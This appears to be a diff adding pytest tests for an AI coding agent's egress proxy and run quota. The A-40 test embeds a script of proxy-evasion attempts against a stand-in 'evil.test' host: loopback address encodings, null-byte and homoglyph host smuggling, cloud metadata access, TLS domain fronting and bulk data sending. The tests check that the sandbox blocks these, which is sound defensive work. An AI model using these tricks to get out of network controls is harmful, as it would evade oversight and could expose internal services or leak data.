@@ -1,0 +1,119 @@
+"""Draining the budget (A-37), and getting out through what is allowed (A-40). What the proxy makes of each hostile
+request by itself is in tests/egress, and so is A-41."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator, Sequence
+from pathlib import Path
+
+import pytest
+
+from bot.contracts.errors import ExitCode
+from bot.contracts.request import Verb
+from bot.run.event import EventRun, run_event
+from tests.run.test_event_queue import BOT, WORKFLOW, run_of
+from tests.support.fix_script import DONE, shell
+from tests.support.listeners import Listener
+from tests.support.model_server import ModelServer
+from tests.support.registry import registry
+from tests.support.stage import Stage
+from tests.support.tls import make_authority, tls_server
+from tests.support.verb_runs import carry_out, request_in
+
+HOST = "packages.test"
+
+# Everything that an obedient model could try at the proxy: each line of the output is an answer's first line.
+HOSTILE = r"""
+import socket, ssl, sys
+PORT, EVIL = sys.argv[1:]
+def say(request):
+    proxy = socket.create_connection(("127.0.0.1", 3128), timeout=20)
+    proxy.sendall(request)
+    return proxy, proxy.recv(65536).split(b"\r\n")[0].decode()
+def tunnel(name):
+    proxy, _ = say(f"CONNECT packages.test:{PORT} HTTP/1.1\r\n\r\n".encode())
+    return ssl._create_unverified_context().wrap_socket(proxy, server_hostname=name)
+for where in (
+    "127.0.0.1:EVIL", "localhost:EVIL", "[::1]:EVIL", "2130706433:EVIL", "0x7f.1:EVIL", "packages.test:EVIL",
+    "packages.test\0.evil.test:PORT", "evil.test\0packages.test:PORT", "x@packages.test:PORT",
+    "packages.test.evil.test:PORT", "evil-packages.test:PORT", "169.254.169.254:80", "api.github.com:443",
+    "p\u0430ckages.test:PORT",
+):
+    where = where.replace("PORT", PORT).replace("EVIL", EVIL)
+    print(say(f"CONNECT {where} HTTP/1.1\r\n\r\n".encode())[1])
+print(say(f"GET http://127.0.0.1:{EVIL}/ HTTP/1.1\r\nHost: packages.test\r\n\r\n".encode())[1])
+for name in ("evil.test", None):
+    try:
+        tunnel(name)
+        print("FRONTED", name)
+    except OSError:
+        print("cut off")
+try:
+    secure = tunnel("packages.test")
+    for _ in range(64):
+        secure.sendall(b"x" * 65536)
+    while secure.recv(65536):
+        pass
+    print("cut off")
+except OSError:
+    print("cut off")
+"""
+
+
+@pytest.fixture
+def mirror(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[int, dict[str, str]]]:
+    """The registry's port, and the environment that names it as the workflow's mirror."""
+    trusted, server = make_authority(tmp_path, [HOST, "evil.test"])
+
+    async def resolve(host: str, port: int) -> Sequence[str]:
+        return ("127.0.0.1",)
+
+    monkeypatch.setattr("bot.egress.proxy.system_addresses", resolve)
+    with tls_server(server, registry) as port:
+        named = {"SSL_CERT_FILE": str(trusted), "SLASH_AGENT_MIRRORS": f"python=https://{HOST}:{port}/simple"}
+        yield port, named
+
+
+@pytest.mark.bubblewrap
+def test_a40_no_trick_at_the_proxy_gets_out(stage: Stage, mirror: tuple[int, dict[str, str]]) -> None:
+    """Breaks: bot/egress/tunnel.py "if name != target.host:"."""
+    port, named = mirror
+    policy = "version: 1\ntiers:\n  maintainer:\n    egress: [python]\n"
+    stage.forge.commit(stage.repo, {".github/agent.yml": policy})
+    with Listener(b"reached") as evil:
+        came = carry_out(
+            stage,
+            request_in(stage, Verb.FIX),
+            [shell(f"python3 - {port} {evil.port} <<'END'\n{HOSTILE}\nEND"), DONE],
+            more=named,
+        )
+        assert evil.seen == []
+    answers = came.results[0].splitlines()
+    assert [line for line in answers if " 200 " in line or "FRONTED" in line] == []
+    assert len([line for line in answers if line.startswith("HTTP/1.1 4")]) == 15
+    assert answers.count("cut off") == 3
+    whys = {use.why for use in came.outcome.network if use.allowed}
+    assert "cut off: it sent more than a package manager has to send" in whys
+
+
+def test_a37_thirty_triggers_start_as_many_runs_as_a_day_has(stage: Stage) -> None:
+    """Breaks: bot/run/quota.py "if used < limit:"."""
+    policy = "version: 1\ntiers:\n  maintainer: {runs_a_day: 2}\n"
+    stage.forge.commit(stage.repo, {".github/agent.yml": policy})
+    granted = {"contents": "read", "issues": "write", "actions": "read"}
+    token = stage.forge.token(BOT, granted, repo=stage.repo)
+    for _ in range(2):
+        run_of(stage)
+    event = stage.event_file(stage.sample.event)
+    with ModelServer([DONE]) as server:
+        for _ in range(30):
+            environment = stage.environment(
+                token,
+                **server.environment(),
+                GITHUB_RUN_ID=str(run_of(stage, None)),
+                GITHUB_WORKFLOW_REF=f"{stage.repo}/{WORKFLOW}@refs/heads/main",
+            )
+            ended = run_event(EventRun("issue_comment", event), environment, print, print)
+            assert ended.exit_code is ExitCode.REFUSED
+        assert server.requests == []
+    assert len(stage.bot_comments()) == 1
